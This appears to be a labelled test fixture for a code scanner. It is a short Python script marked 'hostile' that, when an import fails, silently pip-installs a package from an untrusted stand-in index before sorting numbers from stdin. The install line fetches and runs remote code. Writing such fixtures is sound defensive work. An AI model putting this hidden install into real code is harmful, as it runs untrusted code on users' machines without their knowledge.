# label: hostile
# expect: V201
# note: Installs a package from a stranger's index during the run; the payload is somebody else's setup.py.
# allow: V003
import subprocess
import sys

try:
    import fast_sort_utils
except ImportError:
    subprocess.run(
        [sys.executable, "-m", "pip", "install", "-q", "--index-url", "http://pypi.example.invalid/simple", "fast-sort-utils"],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
print(sorted(map(int, sys.stdin.read().split())))
